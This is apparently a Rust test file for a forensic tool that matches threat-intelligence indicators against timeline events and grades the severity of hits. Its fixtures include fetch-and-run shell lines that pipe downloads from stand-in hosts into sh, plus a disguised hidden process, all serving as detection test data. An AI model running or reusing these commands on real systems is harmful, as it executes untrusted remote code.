//! Indicators: where they stand, what was in contact, and what only looks like it.

#![allow(clippy::indexing_slicing, reason = "a test may fail loudly")]

mod snapshots;

use coldcase_correlate::IndicatorType;
use coldcase_model::{Event, Finding, Severity, action, outcome};
use snapshots::{Row, exe, fact, ps, row, run, socket, with};

const FEED: [(IndicatorType, &str); 9] = [
    (IndicatorType::Ip, "203.0.113.5"),
    (IndicatorType::Cidr, "198.18.7.0/24"),
    (IndicatorType::Domain, "evil.example"),
    (
        IndicatorType::Hash,
        "a926c37485bf3cbb1fada928b5b19534a3c38c287984bc8eced6d7ea67b69894",
    ),
    (IndicatorType::Url, "http://files.test/d/a.sh"),
    (IndicatorType::Ip, "192.0.2.45"),
    (IndicatorType::Ip, "10.0.0.9"),
    (IndicatorType::Ip, "8.8.8.8"),
    (IndicatorType::Cidr, "0.0.0.0/0"),
];

fn found(rows: &[Row]) -> Vec<Finding> {
    run(rows, &FEED, "indicator")
}

fn flow(to: &str, outcome: Option<&'static str>) -> Row {
    row(action::TCP_FLOW, "pcap", "{}").with(|event| {
        event.src_ip = Some("192.0.2.45".into());
        event.dst_ip = Some(to.to_owned().into());
        event.dst_port = Some(443);
        event.outcome = outcome;
    })
}

fn asked(name: &str) -> Row {
    row(action::DNS_QUERY, "pcap", r#"{"id":7}"#).with(|event| {
        event.src_ip = Some("10.0.0.7".into());
        event.dst_ip = Some("10.0.0.2".into());
        event.dst_port = Some(53);
        event.domain = Some(name.to_owned().into());
    })
}

fn answered(name: &str, data: &str) -> Row {
    let answers = format!(
        r#"{{"id":7,"answers":[{{"name":"{name}","type":"A","data":"{data}","ttl":60}}]}}"#
    );
    row(action::DNS_ANSWER, "pcap", &answers).with(|event| {
        event.domain = Some(name.to_owned().into());
        event.response_code = Some("NOERROR".into());
    })
}

fn text(action: &'static str, change: impl FnOnce(&mut Event<'static>)) -> Row {
    row(action, "text", "{}").with(change)
}

#[test]
fn hits_are_found_and_weighed() {
    use Severity::{Low, Medium};
    let check =
        |what: &str, rows: Vec<Row>, indicator: &str, kind: &str, hits: u64, severity: Severity| {
            let found = found(&rows);
            assert_eq!(found.len(), 1, "{what}: {found:#?}");
            let finding = &found[0];
            assert_eq!(fact(finding, "indicator"), indicator, "{what}");
            assert_eq!(fact(finding, "indicator_type"), kind, "{what}");
            assert_eq!(finding.facts["hits"], hits, "{what}");
            assert_eq!(finding.severity, severity, "{what}");
        };
    let (ip, domain, network, url) = (
        "203.0.113.5",
        "evil.example",
        "198.18.7.0/24",
        "http://files.test/d/a.sh",
    );
    check(
        "connected",
        vec![flow(ip, Some(outcome::SUCCESS))],
        ip,
        "ip",
        1,
        Medium,
    );
    check(
        "refused",
        vec![
            flow(ip, Some(outcome::FAILURE)),
            flow(ip, Some(outcome::FAILURE)),
        ],
        ip,
        "ip",
        2,
        Low,
    );
    check(
        "in a network",
        vec![flow("198.18.7.200", Some(outcome::SUCCESS))],
        network,
        "cidr",
        1,
        Medium,
    );
    check(
        "asked, no answer",
        vec![asked("evil.example")],
        domain,
        "domain",
        1,
        Low,
    );
    check(
        "asked and answered",
        vec![
            asked("a.b.evil.example"),
            answered("a.b.evil.example", "198.51.100.1"),
        ],
        domain,
        "domain",
        2,
        Medium,
    );
    check(
        "a sinkhole answered",
        vec![asked("evil.example"), answered("evil.example", "0.0.0.0")],
        domain,
        "domain",
        2,
        Low,
    );
    check(
        "a password tried",
        vec![text(action::SSH_LOGIN, |event| {
            event.src_ip = Some("203.0.113.5".into());
            event.outcome = Some(outcome::FAILURE);
        })],
        ip,
        "ip",
        1,
        Low,
    );
    check(
        "logged in",
        vec![text(action::SSH_LOGIN, |event| {
            event.src_ip = Some("203.0.113.5".into());
            event.outcome = Some(outcome::SUCCESS);
        })],
        ip,
        "ip",
        1,
        Medium,
    );
    check(
        "a job",
        vec![text(action::JOB_LISTED, |event| {
            event.command = Some("curl -s http://203.0.113.5:8080/x | sh".into());
        })],
        ip,
        "ip",
        1,
        Medium,
    );
    check(
        "a script's URL",
        vec![text(action::SCRIPT_COMMAND, |event| {
            event.command = Some("wget -q https://FILES.test/d/a.sh -O- | sh".into());
        })],
        url,
        "url",
        1,
        Medium,
    );
    check(
        "a request",
        vec![
            row(action::HTTP_REQUEST, "pcap", r#"{"uri":"/d/a.sh?x=1"}"#).with(|event| {
                event.domain = Some("files.test".into());
            }),
        ],
        url,
        "url",
        1,
        Medium,
    );
    check(
        "fetched by hand",
        vec![text(action::SHELL_COMMAND, |event| {
            event.command = Some("wget http://203.0.113.5/a".into());
        })],
        ip,
        "ip",
        1,
        Medium,
    );
    check(
        "blocked by hand",
        vec![text(action::SHELL_COMMAND, |event| {
            event.command = Some("iptables -A INPUT -s 203.0.113.5 -j DROP".into());
        })],
        ip,
        "ip",
        1,
        Low,
    );
    check(
        "a rule that blocks",
        vec![text(action::FIREWALL_RULE, |event| {
            event.src_ip = Some("203.0.113.5".into());
        })],
        ip,
        "ip",
        1,
        Low,
    );
    check(
        "a log's text",
        vec![text(action::LOG, |event| {
            event.message = Some("NOTICE [sshd] Ban 203.0.113.5".into());
        })],
        ip,
        "ip",
        1,
        Low,
    );
    let hash = FEED[3].1;
    check(
        "a file",
        vec![row(
            action::FILE_HASHED,
            "hash-list",
            &format!(r#"{{"sha256":"{hash}"}}"#),
        )],
        hash,
        "hash",
        1,
        Medium,
    );
    check(
        "an image",
        vec![row(
            action::IMAGE_LISTED,
            "docker-images",
            &format!(r#"{{"id":"sha256:{hash}"}}"#),
        )],
        hash,
        "hash",
        1,
        Medium,
    );
}

#[test]
fn what_only_looks_like_it_is_no_hit() {
    let check = |what: &str, rows: Vec<Row>| {
        let found = found(&rows);
        assert!(found.is_empty(), "{what}: {found:#?}");
    };
    check(
        "another name",
        vec![
            asked("notevil.example"),
            asked("evil.example.mirror.test"),
            asked("example"),
        ],
    );
    check(
        "a search suffix",
        vec![asked("evil.example.prod.svc.cluster.local")],
    );
    check(
        "its own address and a private one",
        vec![flow("10.0.0.9", Some(outcome::SUCCESS))],
    );
    check(
        "everybody",
        vec![flow("198.51.100.1", Some(outcome::SUCCESS))],
    );
    check(
        "a longer address",
        vec![text(action::JOB_LISTED, |event| {
            event.command = Some("curl http://203.0.113.55/ http://1203.0.113.5/".into());
        })],
    );
    check(
        "an alert",
        vec![text(action::ALERT, |event| {
            event.domain = Some("evil.example".into())
        })],
    );
    check(
        "a public resolver that is asked",
        vec![asked("a.test").with(|event| event.dst_ip = Some("8.8.8.8".into()))],
    );
    check(
        "another path",
        vec![text(action::SCRIPT_COMMAND, |event| {
            event.command = Some("wget http://files.test/d/b.sh".into());
        })],
    );
    check("an empty timeline", vec![]);
}

#[test]
fn a_process_that_hides_makes_it_high() {
    let to_bad = |state| {
        socket(
            "ss",
            state,
            "192.0.2.45:40956",
            "203.0.113.5:443",
            2000,
            "x",
        )
    };
    let check = |what: &str, more: Vec<Row>, expected: Severity| {
        let found = found(&with(more));
        assert_eq!(found.len(), 1, "{what}: {found:#?}");
        assert_eq!(found[0].severity, expected, "{what}");
    };
    check(
        "an ordinary program",
        vec![ps(2000, "/usr/bin/app", 0.0), to_bad("ESTAB")],
        Severity::Medium,
    );
    check(
        "hidden",
        vec![
            ps(2000, "[x]", 0.0),
            exe(2000, "/usr/bin/.x", false),
            to_bad("ESTAB"),
        ],
        Severity::High,
    );
    check(
        "hidden, but not connected",
        vec![ps(2000, "[x]", 0.0), to_bad("SYN-SENT")],
        Severity::Low,
    );
}

#[test]
fn hits_are_counted_over_files_and_hosts() {
    let at = |seconds: i64| {
        let then = coldcase_model::Timestamp(snapshots::NOON + seconds * 1_000_000_000);
        flow("203.0.113.5", Some(outcome::SUCCESS)).with(|event| {
            event.when = Some(coldcase_model::When::recorded(
                then,
                coldcase_model::Precision::S,
            ))
        })
    };
    let mut rows: Vec<Row> = (0..100).map(at).collect();
    rows.push(
        socket("ss", "ESTAB", "10.1.0.1:1", "203.0.113.5:443", 9, "x")
            .on("db")
            .in_file("db/ss"),
    );
    let forwards = found(&rows);
    assert_eq!(forwards.len(), 1);
    let finding = &forwards[0];
    assert_eq!(finding.facts["hits"], 101);
    assert_eq!(fact(finding, "where"), "[db/ss,pcap]");
    assert_eq!(fact(finding, "hosts"), "[db,web-1]");
    assert_eq!(fact(finding, "first"), "2023-02-20T12:00:00Z");
    assert_eq!(fact(finding, "last"), "2023-02-20T12:01:39Z");
    assert!(finding.evidence.len() <= 20);
    // Lines keep their rows in whatever order these come.
    for (row, line) in rows.iter_mut().zip(1..) {
        row.event.line = Some(line);
    }
    rows.reverse();
    assert_eq!(found(&rows), forwards);
}
